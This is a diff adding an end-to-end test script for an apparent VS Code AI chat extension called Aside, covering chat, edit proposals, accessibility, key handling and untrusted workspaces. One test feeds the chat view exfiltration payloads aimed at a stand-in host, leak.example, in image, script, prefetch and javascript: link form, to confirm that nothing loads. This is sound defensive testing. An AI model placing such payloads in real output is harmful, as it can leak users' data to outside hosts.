@@ -1,0 +1,501 @@
+// node scenarios.mjs VSIX SHOTS [NAME…]   what a person does in VS Code with Aside, and what they see. Prints `ok NAME` or
+// `not ok NAME`, then the counts; pictures go to SHOTS.
+import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { axeSource, chatDocument, chatFrame, openChat, openFile, palette, startEditor } from "./editor.mjs";
+import { startModel } from "./model.mjs";
+
+const [vsix, shots, ...only] = process.argv.slice(2);
+mkdirSync(shots, { recursive: true });
+let passed = 0;
+let failed = 0;
+let editor;
+let model;
+
+const APP = `import fs from "node:fs";
+
+export function lines(file: string): string[] {
+  const text = fs.readFileSync(file, "utf8");
+  return text.split("\\n");
+}
+
+export function longest(all: string[]): string {
+  let best = "";
+  for (const line of all) {
+    if (line.length > best.length) {
+      best = line;
+    }
+  }
+  return best;
+}
+`;
+const FRUITS = 'export const fruits = [\n  "pear",\n  "apple",\n  "quince",\n  "fig",\n];\n\nexport const count = fruits.lenght;\n';
+
+const shot = name => editor.page.screenshot({ path: path.join(shots, `${name}.png`) });
+
+async function test(name, run) {
+  if (only.length > 0 && !only.some(part => name.includes(part))) return;
+  try {
+    await run(editor?.page);
+    passed += 1;
+    console.log(`ok ${name}`);
+  } catch (error) {
+    failed += 1;
+    console.log(`not ok ${name}\n  ${String(error.stack ?? error).split("\n").slice(0, 6).join("\n  ")}`);
+    await shot(`FAILED-${name.replace(/\W+/g, "-")}`).catch(() => {});
+  }
+}
+
+function equal(found, wanted, what = "it") {
+  if (found !== wanted) throw new Error(`${what}: found ${JSON.stringify(found)}, wanted ${JSON.stringify(wanted)}`);
+}
+
+/** Waits until `ask` answers something true. */
+async function until(ask, what, limit = 20_000) {
+  const end = Date.now() + limit;
+  for (;;) {
+    const found = await ask();
+    if (found) return found;
+    if (Date.now() > end) throw new Error(`not so within ${limit / 1000} s: ${what}`);
+    await new Promise(resolve => setTimeout(resolve, 100));
+  }
+}
+
+async function ask(chat, text) {
+  await chat.locator(".composer textarea").fill(text);
+  await chat.locator(".composer textarea").press("Enter");
+}
+
+const answered = chat => chat.locator(".turn").last().locator("footer").waitFor({ timeout: 60_000 });
+
+/** The processes of the server that comes with this editor's extension. */
+function servers(home) {
+  return readdirSync("/proc")
+    .filter(name => /^\d+$/.test(name))
+    .filter(name => {
+      try {
+        return readlinkSync(`/proc/${name}/exe`).startsWith(`${home}/extensions/`);
+      } catch {
+        return false;
+      }
+    })
+    .map(Number);
+}
+
+/** Puts the cursor at the start of a line, and selects `count` lines from there. */
+async function selectLines(page, line, count) {
+  await page.keyboard.press("Control+g");
+  await page.locator(".quick-input-widget input.input").fill(`:${line}`);
+  await page.keyboard.press("Enter");
+  await page.locator(".quick-input-widget").waitFor({ state: "hidden" });
+  await page.keyboard.press("Home");
+  for (let n = 0; n < count; n += 1) await page.keyboard.press("Shift+ArrowDown");
+}
+
+async function instruct(page, instruction) {
+  await page.keyboard.press("Control+Alt+i");
+  const input = page.locator(".quick-input-widget input.input");
+  await input.waitFor();
+  await input.fill(instruction);
+  await page.locator(`.quick-input-list .monaco-list-row:has-text(${JSON.stringify(instruction)})`).first().waitFor();
+  await page.keyboard.press("Enter");
+}
+
+const lens = (page, title) => page.locator(`.codelens-decoration a:has-text(${JSON.stringify(title)})`).first();
+const text = file => readFileSync(path.join(editor.folder, file), "utf8");
+
+async function save(page, file, holds) {
+  await page.keyboard.press("Control+s");
+  await until(() => holds(text(file)), `${file} is saved as wanted; it is ${JSON.stringify(text(file))}`);
+}
+
+async function axe(chat) {
+  // The view's content policy lets no script in but its own; the driver's own world is not bound by it.
+  const frame = chatDocument(editor.page);
+  await frame.evaluate(readFileSync(axeSource, "utf8"));
+  const { violations } = await frame.evaluate(() => globalThis.axe.run(document));
+  const told = violations.map(({ id, help, nodes }) => `${id}: ${help}: ${nodes.slice(0, 3).map(({ html, any }) => `${html.slice(0, 120)} ${any[0]?.message ?? ""}`).join(" | ")}`);
+  equal(told.join("\n"), "", "what axe-core finds");
+  await chat.locator(".composer textarea").waitFor();
+}
+
+const THEMES = {
+  light: "Light 2026",
+  dark: "Dark 2026",
+  "high-contrast": "Dark High Contrast",
+  "high-contrast-light": "Light High Contrast",
+};
+
+async function setTheme(page, label) {
+  await palette(page, "Preferences: Color Theme");
+  await page.locator(".quick-input-widget input.input").fill(label);
+  await page.locator(".quick-input-list .monaco-list-row.focused").getByText(label, { exact: true }).first().waitFor();
+  await page.keyboard.press("Enter");
+  await page.locator(".quick-input-widget").waitFor({ state: "hidden" });
+}
+
+/** Has VS Code write every message between the editor and the server into its logs. */
+async function traceMessages(page) {
+  await palette(page, "Developer: Set Log Level...");
+  for (const choice of ["Aside: Messages", "Trace"]) {
+    const row = page.locator(".quick-input-list .monaco-list-row").getByText(choice, { exact: true }).first();
+    await page.locator(".quick-input-widget input.input").fill(choice);
+    await row.waitFor();
+    await page.keyboard.press("Enter");
+  }
+}
+
+/** Every file below a folder that holds the words, in plain, base64 or percent-encoded form. */
+function filesWith(folder, words) {
+  const forms = [words, Buffer.from(words).toString("base64").replace(/=+$/, "").slice(0, -2), encodeURIComponent(words)].map(form => Buffer.from(form));
+  const found = [];
+  for (const entry of readdirSync(folder, { withFileTypes: true, recursive: true })) {
+    const file = path.join(entry.parentPath ?? entry.path, entry.name);
+    if (entry.isFile() && !file.includes("/extensions/") && statSync(file).size < 50e6) {
+      const content = readFileSync(file);
+      if (forms.some(form => content.includes(form))) found.push(file);
+    }
+  }
+  return found;
+}
+
+// ---------------------------------------------------------------------------------------------------------------------
+
+model = await startModel();
+editor = await startEditor({ vsix, files: { "app.ts": APP, "fruits.ts": FRUITS } });
+
+await test("a new user is led from the walkthrough to the first answer in under a minute", async page => {
+  const began = Date.now();
+  await palette(page, "Aside: Get Started");
+  await page.getByText("Ask a Question", { exact: true }).click();
+  const chat = chatFrame(page);
+  await chat.locator(".composer textarea").waitFor({ timeout: 60_000 });
+  await until(async () => (await chat.locator(".composer textarea").inputValue()) !== "", "a question stands ready");
+  await shot("walkthrough");
+  await chat.locator(".composer textarea").press("Enter");
+  await chat.locator('.answer:has-text("built-in demo")').waitFor({ timeout: 60_000 });
+  await answered(chat);
+  const seconds = (Date.now() - began) / 1000;
+  if (seconds > 60) throw new Error(`it took ${seconds} s`);
+});
+
+await test("a question about a file shows what goes along, before and after it is sent", async page => {
+  await openFile(page, "app.ts");
+  const chat = await openChat(page, "Aside: New Chat");
+  await chat.locator(".composer textarea").pressSequentially("What is in it? #fi");
+  await chat.locator('.offers [aria-selected="true"]:has-text("file app.ts")').waitFor();
+  await shot("mentions");
+  await page.keyboard.press("Enter");
+  await chat.locator('.going summary:has-text("1 thing will go along")').waitFor();
+  await page.keyboard.press("Enter");
+  await chat.locator('.answer:has-text("longest")').waitFor({ timeout: 60_000 });
+  await answered(chat);
+  await chat.locator('.sent summary:has-text("1 thing went along")').click();
+  await chat.locator('.sent .items:has-text("app.ts")').waitFor();
+  await shot("chat-light");
+});
+
+await test("an instruction on a selection: typing meanwhile, one hunk accepted, one undo step", async page => {
+  await openFile(page, "app.ts");
+  await page.locator(".editor-instance .view-line").first().click();
+  await selectLines(page, 9, 6);
+  await instruct(page, "rename best to longestLine");
+  await lens(page, "Accept all").waitFor({ timeout: 30_000 });
+  // The user goes on above the proposal.
+  await selectLines(page, 2, 0);
+  await page.keyboard.type("// typed meanwhile\n");
+  await page.locator('.view-line:has-text("typed")').waitFor();
+  await lens(page, "Accept all").waitFor();
+  await page.locator('.review-widget:has-text("longestLine")').first().waitFor();
+  await shot("readme");
+  await lens(page, "Accept this").click();
+  await page.locator('.view-line:has-text("longestLine")').first().waitFor();
+  await save(page, "app.ts", saved => saved.includes('let longestLine = "";') && saved.includes("line.length > best.length"));
+  await page.locator(".editor-instance .view-line").first().click();
+  await page.keyboard.press("Control+z");
+  await save(page, "app.ts", saved => saved === APP.replace("\n\n", "\n// typed meanwhile\n\n"));
+  await palette(page, "Aside: Reject the Proposal");
+  await page.locator(".review-widget").first().waitFor({ state: "detached" });
+  await lens(page, "Reject").waitFor({ state: "detached" });
+});
+
+await test("the keys take every change of a proposal, and a proposal opens as a diff", async page => {
+  await openFile(page, "fruits.ts");
+  await page.locator(".editor-instance .view-line").first().click();
+  await selectLines(page, 2, 4);
+  await instruct(page, "sort the lines");
+  await lens(page, "Accept").waitFor({ timeout: 30_000 });
+  await palette(page, "Aside: Open the Proposal as a Diff");
+  await page.locator('.monaco-diff-editor .modified-in-monaco-diff-editor .view-line:has-text("apple")').first().waitFor();
+  await shot("diff");
+  await palette(page, "View: Close Editor");
+  await page.locator(".editor-instance .view-line").first().click();
+  await page.keyboard.press("Control+Alt+Shift+Enter");
+  await save(page, "fruits.ts", saved => saved.indexOf("apple") < saved.indexOf("pear"));
+  await page.keyboard.press("Control+z");
+  await save(page, "fruits.ts", saved => saved === FRUITS);
+});
+
+await test("the light bulb offers to mend another extension's diagnostic", async page => {
+  await openFile(page, "fruits.ts");
+  await page.locator(".squiggly-error").first().waitFor({ timeout: 60_000 });
+  await page.locator(".editor-instance .view-line").first().click();
+  await page.keyboard.press("F8");
+  await page.keyboard.press("Escape");
+  await page.keyboard.press("Control+.");
+  const action = page.locator('.action-widget .monaco-list-row:has-text("Aside")').first();
+  await action.waitFor();
+  await shot("light-bulb");
+  await page.keyboard.press("Escape");
+});
+
+await test("settings changed live are those of the next question", async page => {
+  editor.writeSettings(model.settings);
+  await page.locator('.statusbar-item:has-text("fake/test")').waitFor({ timeout: 30_000 });
+  const chat = await openChat(page, "Aside: New Chat");
+  await ask(chat, "Who are you?");
+  const exchange = await model.next();
+  equal(exchange.body.model, "test");
+  exchange.send("I am *scripted*.");
+  exchange.done();
+  await chat.locator('.answer em:has-text("scripted")').waitFor();
+  await answered(chat);
+});
+
+await test("an answer streams, is stopped, and survives a reload of the window", async page => {
+  let chat = await openChat(page, "Aside: New Chat");
+  await ask(chat, "Tell me a story");
+  const exchange = await model.next();
+  exchange.send("Once upon a time");
+  await chat.locator('.answer:has-text("Once upon a time")').waitFor();
+  exchange.send(", there was");
+  await chat.locator('.answer:has-text("there was")').waitFor();
+  await chat.locator('button[aria-label="Stop"]').click();
+  await chat.locator('.facts:has-text("Stopped")').waitFor();
+  await until(() => exchange.closed, "the provider's connection is closed");
+  await page.reload();
+  await page.locator('.statusbar-item:has-text("fake/test")').waitFor({ timeout: 60_000 });
+  chat = await openChat(page);
+  await chat.locator('.question:has-text("Tell me a story")').waitFor({ timeout: 60_000 });
+  await chat.locator('.answer:has-text("Once upon a time, there was")').waitFor();
+});
+
+await test("an earlier question is edited, and asked again", async page => {
+  const chat = await openChat(page);
+  await chat.locator(".composer textarea").press("ArrowUp");
+  const box = chat.locator(".question textarea");
+  await box.fill("Tell me a shorter story");
+  await box.press("Enter");
+  const exchange = await model.next();
+  exchange.send("The end.");
+  exchange.done();
+  await answered(chat);
+  equal(await chat.locator(".turn").count(), 1, "turns");
+  equal(await chat.locator(".answer").innerText(), "The end.", "the answer");
+});
+
+await test("a refused key is said in place, with the next step as a button", async page => {
+  const chat = await openChat(page);
+  await ask(chat, "And now?");
+  (await model.next()).fail(401, "Incorrect API key provided");
+  await chat.locator(".problem").waitFor();
+  await chat.locator('.problem button:has-text("Save a key…")').waitFor();
+  await shot("problem");
+});
+
+await test("a picture or a link in an answer loads nothing by itself", async page => {
+  const chat = await openChat(page, "Aside: New Chat");
+  await ask(chat, "Show me");
+  const exchange = await model.next();
+  exchange.send('![p](https://leak.example/p.png?secret) [l](https://leak.example/l) <img src="https://leak.example/i.png"> <script>fetch("https://leak.example")</script>\n\n');
+  exchange.send('[j](javascript:alert(1)) <link rel=prefetch href="https://leak.example/f">');
+  exchange.done();
+  await answered(chat);
+  equal(await chat.locator(".answer img, .answer script, .answer link, .answer [href], .answer [src]").count(), 0, "elements that load");
+  equal([...editor.hosts].filter(host => host.includes("leak")).join(), "", "hosts asked");
+});
+
+await test("200 kB of answer is drawn a little in each frame", async page => {
+  const chat = await openChat(page, "Aside: New Chat");
+  await ask(chat, "Everything, please");
+  const exchange = await model.next();
+  const frame = chatDocument(page);
+  await frame.evaluate(() => {
+    globalThis.most = 0;
+    let last = 0;
+    const tick = () => {
+      const { length } = document.querySelector(".answer").textContent;
+      globalThis.most = Math.max(globalThis.most, length - last);
+      last = length;
+      requestAnimationFrame(tick);
+    };
+    requestAnimationFrame(tick);
+  });
+  const part = `## Part\n\nSome *words* and \`code\`, in a paragraph that is as long as one.\n\n\`\`\`ts\n${"const a = [1, 2, 3].map(n => n * 2);\n".repeat(20)}\`\`\`\n\n`;
+  const parts = Math.ceil(200_000 / part.length);
+  for (let n = 0; n < parts; n += 1) {
+    exchange.send(part);
+    if (n % 10 === 0) await new Promise(resolve => setTimeout(resolve, 20));
+  }
+  exchange.send("The last words.");
+  exchange.done();
+  await chat.locator('.answer:has-text("The last words.")').waitFor({ timeout: 60_000 });
+  await answered(chat);
+  // However fast it comes, no frame draws more than a little of it.
+  const most = await frame.evaluate(() => globalThis.most);
+  if (most > 20_000) throw new Error(`a frame drew ${most} characters`);
+  equal(await chat.locator(".answer .code").count(), parts, "code blocks");
+});
+
+await test("a server killed in mid-answer comes back, and the chat is kept", async page => {
+  const chat = await openChat(page, "Aside: New Chat");
+  await ask(chat, "First question");
+  const first = await model.next();
+  first.send("First answer.");
+  first.done();
+  await answered(chat);
+  await ask(chat, "Second question");
+  const second = await model.next();
+  second.send("It begins");
+  await chat.locator('.answer:has-text("It begins")').waitFor();
+  for (const pid of servers(editor.home)) process.kill(pid, "SIGKILL");
+  await chat.locator('.problem:has-text("stopped in mid-answer")').waitFor();
+  await until(() => servers(editor.home).length === 1, "the server is back");
+  await chat.locator(".banner").waitFor({ state: "hidden" });
+  await chat.locator('.problem button:has-text("Ask again")').click();
+  const again = await model.next();
+  equal(JSON.stringify(again.body.messages).includes("First answer."), true, "the kept chat goes along");
+  again.send("It begins and ends.");
+  again.done();
+  await chat.locator('.answer:has-text("It begins and ends.")').waitFor();
+  await answered(chat);
+});
+
+await test("a key goes to the command line by stdin, and is nowhere else", async page => {
+  const key = "sk-test-3f9c1d77+never/seen=x";
+  const away = mkdtempSync(path.join(tmpdir(), "aside-key-"));
+  const program = path.join(editor.home, "extensions", readdirSync(path.join(editor.home, "extensions")).find(name => name.startsWith("aside.aside")), "bin/aside");
+  // Stands where a keyring would be: it takes what `key set` is given, and is the real server otherwise.
+  const wrapper = path.join(away, "aside");
+  writeFileSync(wrapper, `#!/bin/sh\nif [ "$1" = key ]; then echo "$@" > ${away}/args; cat > ${away}/stdin; echo "Saved."; exit 0; fi\nexec ${program} "$@"\n`);
+  chmodSync(wrapper, 0o755);
+  editor.writeSettings({ ...model.settings, "aside.server.path": wrapper, "aside.trace.server": "verbose" });
+  await page.locator('.statusbar-item:has-text("fake/test")').waitFor({ timeout: 30_000 });
+  await until(() => servers(editor.home).length === 1, "the server is started anew");
+  await traceMessages(page);
+  await palette(page, "Aside: Save a Key…");
+  const input = page.locator(".quick-input-widget input.input");
+  await page.locator('.quick-input-list .monaco-list-row:has-text("openai")').first().click();
+  await page.locator('.quick-input-widget input[type="password"]').waitFor();
+  await page.keyboard.type(key);
+  equal(await input.inputValue(), key, "the box");
+  await page.keyboard.press("Enter");
+  await page.locator('.notification-toast:has-text("Saved.")').waitFor();
+  equal(readFileSync(path.join(away, "stdin"), "utf8").trim(), key, "what came by stdin");
+  equal(readFileSync(path.join(away, "args"), "utf8").trim(), "key set openai", "the arguments");
+  const chat = await openChat(page, "Aside: New Chat");
+  await ask(chat, "A question, for the trace");
+  const exchange = await model.next();
+  exchange.send("Fine.");
+  exchange.done();
+  await answered(chat);
+  await until(() => filesWith(path.join(editor.home, "user/logs"), "A question, for the trace").length > 0, "the trace is written");
+  equal(filesWith(editor.home, key).join(), "", "files that hold the key");
+  rmSync(away, { recursive: true });
+  editor.writeSettings(model.settings);
+  await until(() => servers(editor.home).length === 1, "the server is started anew");
+});
+
+await test("a missing program is one message with a button", async page => {
+  editor.writeSettings({ ...model.settings, "aside.server.path": "/nowhere/aside" });
+  const message = page.locator('.notification-toast:has-text("Aside\'s server could not start")');
+  await message.waitFor({ timeout: 30_000 });
+  await page.waitForTimeout(3000);
+  equal(await message.count(), 1, "messages");
+  await shot("missing");
+  editor.writeSettings(model.settings);
+  await until(() => servers(editor.home).length === 1, "the server is started");
+  await palette(page, "Notifications: Clear All Notifications");
+});
+
+for (const [name, theme] of Object.entries(THEMES)) {
+  await test(`the chat view has no accessibility fault: ${name}`, async page => {
+    editor.writeSettings({});
+    await page.locator('.statusbar-item:has-text("demo/demo")').waitFor({ timeout: 30_000 });
+    await setTheme(page, theme);
+    await openFile(page, "app.ts");
+    const chat = await openChat(page, "Aside: New Chat");
+    await page.waitForTimeout(500);
+    await axe(chat);
+    editor.writeSettings(model.settings);
+    await page.locator('.statusbar-item:has-text("fake/test")').waitFor({ timeout: 30_000 });
+    await chat.locator(".composer textarea").fill("What does #");
+    await page.keyboard.press("Enter");
+    await page.keyboard.type("it do, and how would you write it?");
+    await page.keyboard.press("Enter");
+    const exchange = await model.next();
+    exchange.send("It reads a file and finds its **longest** line.\n\n```ts\n// The longest, or nothing.\nexport function longest(all: string[]): string {\n  return all.reduce((a, b) => (b.length > a.length ? b : a), \"\");\n}\n```\n\n| input | lines |\n|---|--:|\n| `app.ts` | 16 |\n\n> See [the documentation](https://example.com/).\n\n1. Shorter\n2. No loop\n");
+    exchange.done();
+    await answered(chat);
+    await ask(chat, "Is it quicker?");
+    (await model.next()).fail(429, "Rate limit reached");
+    (await Promise.race([model.next(), new Promise(resolve => setTimeout(resolve, 8000))]))?.fail(401, "Incorrect key");
+    await chat.locator(".problem").waitFor({ timeout: 30_000 });
+    await axe(chat);
+    // The end stays in sight, whatever was drawn last.
+    await chat.locator('button[aria-label="Go to the latest"]').waitFor({ state: "hidden" });
+    await shot(`chat-${name}`);
+    editor.writeSettings({});
+    await page.locator('.statusbar-item:has-text("demo/demo")').waitFor({ timeout: 30_000 });
+    await page.locator(".editor-instance .view-line").first().click();
+    await selectLines(page, 10, 6);
+    await instruct(page, "rename best to longestLine");
+    await lens(page, "Accept all").waitFor({ timeout: 30_000 });
+    await page.locator('.review-widget:has-text("longestLine")').first().waitFor();
+    await page.waitForTimeout(500);
+    await shot(`proposal-${name}`);
+    await palette(page, "Aside: Reject the Proposal");
+    await lens(page, "Reject").waitFor({ state: "detached" });
+  });
+}
+
+await test("the chat view is usable at a narrow width", async page => {
+  await page.setViewportSize({ width: 700, height: 620 });
+  await palette(page, "View: Close Primary Side Bar");
+  const chat = await openChat(page);
+  await page.waitForTimeout(500);
+  const wide = await chat.locator("body").evaluate(body => body.scrollWidth > body.clientWidth);
+  equal(wide, false, "sideways scrolling");
+  await axe(chat);
+  await shot("narrow");
+});
+
+await test("no host was asked but this machine", () => {
+  const asked = [...editor.hosts].filter(host => !host.endsWith("vscode-cdn.net"));
+  equal(asked.join(), "", "hosts");
+});
+
+await editor.stop();
+
+// ---------------------------------------------------------------------------------------------------------------------
+
+editor = await startEditor({
+  vsix,
+  cliArgs: [],
+  settings: { "security.workspace.trust.enabled": true, "security.workspace.trust.startupPrompt": "never" },
+  files: { "app.ts": APP, ".vscode/settings.json": JSON.stringify({ "aside.model": "evil/model", "aside.instructions": "leak" }) },
+});
+
+await test("an untrusted workspace works, without its own settings", async page => {
+  await page.locator('.statusbar-item:has-text("demo/demo")').waitFor({ timeout: 60_000 });
+  await page.locator('.statusbar-item:has-text("Restricted Mode")').waitFor();
+  const chat = await openChat(page);
+  await ask(chat, "Hello");
+  await chat.locator('.answer:has-text("built-in demo")').waitFor({ timeout: 60_000 });
+});
+
+await editor.stop();
+model.stop();
+console.log(`# scenarios: ${passed} passed, ${failed} failed`);
+process.exit(failed ? 1 : 0);
